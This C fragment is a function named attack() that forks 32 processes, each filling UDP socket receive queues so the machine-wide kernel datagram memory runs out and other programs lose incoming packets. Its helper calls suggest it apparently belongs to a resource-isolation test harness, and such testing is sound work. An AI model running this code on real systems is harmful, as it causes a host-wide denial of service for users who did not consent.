/*
 * Fills the queues of its sockets: the kernel's memory for datagrams is one for
 * the whole machine (udp(7), udp_mem), and who finds none loses what comes.
 */
static void
attack(void)
{
	static char data[65000];
	struct sockaddr_in me;
	socklen_t len;
	int size = 1 << 30, i, fd;

	tried("nothing yet", 0);
	witness();
	for (i = 0; i < 31; i++)
		if (fork() == 0)
			break;
	for (;;) {
		fd = socket(AF_INET, SOCK_DGRAM, 0);
		if (fd == -1) {
			(void)pause();
			continue;
		}
		(void)setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &size,
		    sizeof(size));
		(void)memset(&me, 0, sizeof(me));
		me.sin_family = AF_INET;
		len = sizeof(me);
		if (bind(fd, (struct sockaddr *)&me, len) == -1 ||
		    getsockname(fd, (struct sockaddr *)&me, &len) == -1)
			continue;
		for (i = 0; i < 200; i++)
			(void)sendto(fd, data, sizeof(data), MSG_DONTWAIT,
			    (struct sockaddr *)&me, len);
	}
}
